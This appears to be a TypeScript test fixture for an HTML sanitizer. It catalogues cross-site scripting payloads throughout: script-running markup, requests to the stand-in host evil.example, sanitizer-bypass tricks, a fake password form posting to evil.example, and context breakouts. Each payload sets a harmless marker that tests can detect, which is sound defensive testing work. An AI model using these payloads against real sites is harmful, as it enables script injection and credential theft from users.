/** The § is replaced by the number of the payload. */
const HURT = 'window.hurt=§'
const THERE = 'http://evil.example'

/** Payloads that run by themselves or on interaction, if the page inserts them unchanged. */
const running = [
  `<script>${HURT}</script>`,
  `<img src=x onerror="${HURT}">`,
  `<IMG SRC=x OnErRoR=${HURT}>`,
  `<svg onload="${HURT}"></svg>`,
  `<svg><script>${HURT}</script></svg>`,
  `<svg><animate onbegin="${HURT}" attributeName=x dur=1s></svg>`,
  `<math><mtext><img src=x onerror="${HURT}"></mtext></math>`,
  `<iframe srcdoc="<script>parent.hurt=§</script>"></iframe>`,
  `<iframe src="javascript:parent.hurt=§"></iframe>`,
  `<object data=x.gif onerror="${HURT}"></object>`,
  `<video><source src=x onerror="${HURT}"></video>`,
  `<input autofocus onfocus="${HURT}">`,
  `<details open ontoggle="${HURT}"><summary>sly</summary></details>`,
  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${HURT}">sly</p>`,
  `<link rel=stylesheet href="data:text/css," onload="${HURT}">`,
  `<body onpageshow="${HURT}"><p>sly</p>`,
  `<table><tbody><tr><td><img src=x onerror="${HURT}"></td></tr></tbody></table>`,
  `<<img src=x onerror=${HURT}>`,
  `<img """><img src=x onerror="${HURT}">">`,
  `<img src=x onerror="&#x77;&#105;ndow&period;hurt&equals;§">`,
  `<picture><source srcset=x><img onerror="${HURT}"></picture>`,
  `<svg><a href="javascript:${HURT}"><text y=20>sly</text></a></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${HURT}"></annotation-xml></math>`,
  `<a href="javascript:${HURT}">sly</a>`,
  `<a href="java&#9;script:${HURT}">sly</a>`,
  `<a href="&#1;javascript:${HURT}">sly</a>`,
  `<area href="javascript:${HURT}" shape=default>`,
  `<form action="javascript:${HURT}"><button>sly</button></form>`,
  `<form><button formaction="javascript:${HURT}">sly</button></form>`,
  `<p onclick="${HURT}">sly</p>`,
  `<x onclick="${HURT}">sly</x>`,
  `<p contenteditable onfocus="${HURT}">sly</p>`,
  `<select onfocus="${HURT}"><option>sly</select>`,
  `<p oncontextmenu="${HURT}" ondragstart="${HURT}" oncopy="${HURT}">sly</p>`,
  `<p popover onbeforetoggle="${HURT}">sly</p>`,
  `<dialog open onclose="${HURT}" oncancel="${HURT}">sly</dialog>`,
]

/** Payloads that send a request to another site by themselves. */
const calling = [
  `<img src="${THERE}/picture">`,
  `<picture><source srcset="${THERE}/source"><img></picture>`,
  `<p style="background:url(${THERE}/background)">sly</p>`,
  `<style>body{background:url(${THERE}/style)}</style>`,
  `<style>@import url(${THERE}/import.css);</style>`,
  `<link rel="stylesheet" href="${THERE}/sheet.css">`,
  `<iframe src="${THERE}/frame"></iframe>`,
  `<object data="${THERE}/object"></object>`,
  `<embed src="${THERE}/embed">`,
  `<video src="${THERE}/film" autoplay></video>`,
  `<table background="${THERE}/table"><tr><td>sly</td></tr></table>`,
  `<meta http-equiv="refresh" content="0;url=${THERE}/refresh">`,
  `<script src="${THERE}/script.js"></script>`,
]

/** Markup that announcements must not contain although it does nothing by itself, and known bypasses of sanitizers. */
const lurking = [
  `<svg><use href="${THERE}/use.svg#a"></use></svg>`,
  `<form action="${THERE}/form"><input name="password" type="password"><button>Login again</button></form>`,
  `<button formaction="javascript:${HURT}" form="x">sly</button><select><option>sly</option></select><textarea>sly</textarea>`,
  `<base href="${THERE}/"><a href="page">relative</a>`,
  `<a href="javascript:${HURT}">sly</a>`,
  `<a href="java&#9;script:${HURT}">sly</a>`,
  `<a href="&#1;javascript:${HURT}">sly</a>`,
  `<a href="data:text/html,<script>${HURT}</script>">sly</a>`,
  `<a href="${THERE}" target="_top">sly</a>`,
  `<a href="${THERE}" target="_blank" rel="opener">sly</a>`,
  `<a href="${THERE}" ping="${THERE}/ping" download>sly</a>`,
  `<a href="${THERE}" onclick="${HURT}" onmouseover="${HURT}">sly</a>`,
  `<svg><a href="javascript:${HURT}"><text y="20">sly</text></a></svg>`,
  `<math href="javascript:${HURT}">sly</math>`,
  `<p style="position:fixed;inset:0;background:red" class="fixed inset-0" id="root">over everything</p>`,
  `<p hidden data-x="y" dir="rtl" aria-label="x" contenteditable draggable="true" tabindex="1" accesskey="x" slot="s">sly</p>`,
  `<h2 id="main" name="location">sly</h2><a id="settings" name="cookie">sly</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${HURT}>"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HURT}&gt;">`,
  `<svg></p><style><a title="</style><img src=x onerror=${HURT}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${HURT}>`,
  `<select><noembed></select><script>${HURT}</script></noembed>`,
  `<textarea><a title="</textarea><img src=x onerror=${HURT}>"></a></textarea>`,
  `<template><img src=x onerror=${HURT}></template><template shadowrootmode="open"><img src=x onerror=${HURT}></template>`,
  `<!--><img src=x onerror=${HURT}>-->`,
  `<p>${'<b>'.repeat(300)}deep<img src=x onerror=${HURT}>`,
  `<x-own onclick="${HURT}" is="x-own">sly</x-own><portal src="${THERE}"></portal>`,
]

/**
 * Payloads that break out of an attribute, a URL, a script, a comment or a title, each with a careless page that lets
 * them out.
 */
const leaving: [string, (text: string) => string][] = [
  [`"><img src=x onerror=${HURT}>`, (text) => `<input value="${text}">`],
  [`'><svg onload=${HURT}>`, (text) => `<input value='${text}'>`],
  [`" autofocus onfocus="${HURT}`, (text) => `<input value="${text}">`],
  [`x onclick=${HURT}`, (text) => `<p title=${text}>sly</p>`],
  [`javascript:${HURT}`, (text) => `<a href="${text}">sly</a>`],
  [`\u0001javascript:${HURT}`, (text) => `<a href="${text}">sly</a>`],
  [`javascript:/*--></title></style></textarea></script></xmp><svg/onload=${HURT}>`, (text) => `<p>${text}</p>`],
  [`';${HURT};'`, (text) => `<script>var name='${text}'</script>`],
  [`\\";${HURT};//`, (text) => `<script>var name="${text.replace('"', '\\"')}"</script>`],
  [`\${${HURT}}`, (text) => `<script>var name=\`${text}\`</script>`],
  [`'-(${HURT})-'`, (text) => `<p onclick="var name='${text}'">sly</p>`],
  [`</script><script>${HURT}</script>`, (text) => `<script>var name="${text}"</script>`],
  [`--><img src=x onerror=${HURT}>`, (text) => `<!-- ${text} -->`],
  [`</title><img src=x onerror=${HURT}>`, (text) => `<title>${text}</title>`],
  [`</textarea><img src=x onerror=${HURT}>`, (text) => `<textarea>${text}</textarea>`],
  [`&lt;img src=x onerror=parent.hurt=§&gt;`, (text) => `<iframe srcdoc="${text}"></iframe>`],
  [`\u003cimg src=x onerror=${HURT}\u003e`, (text) => `<script>document.write("${text}")</script>`],
  [`[sly](javascript:${HURT})`, (text) => text.replace(/\[(.*)\]\((.*)\)/, '<a href="$2">$1</a>')],
]

type Kind = 'running' | 'calling' | 'lurking' | 'leaving'
export type Payload = { number: number; kind: Kind; text: string; careless: (text: string) => string }

const as = (kind: Kind) => (text: string) => ({ kind, text, careless: (given: string) => given })

/** Every payload with its number, which it writes to `window.hurt` when it runs. */
export const payloads: Payload[] = [
  ...running.map(as('running')),
  ...calling.map(as('calling')),
  ...lurking.map(as('lurking')),
  ...leaving.map(([text, careless]) => ({ kind: 'leaving' as const, text, careless })),
].map(({ text, ...payload }, at) => ({ ...payload, number: at + 1, text: text.replaceAll('§', String(at + 1)) }))

export const ofKinds = (...kinds: Kind[]) => payloads.filter(({ kind }) => kinds.includes(kind))
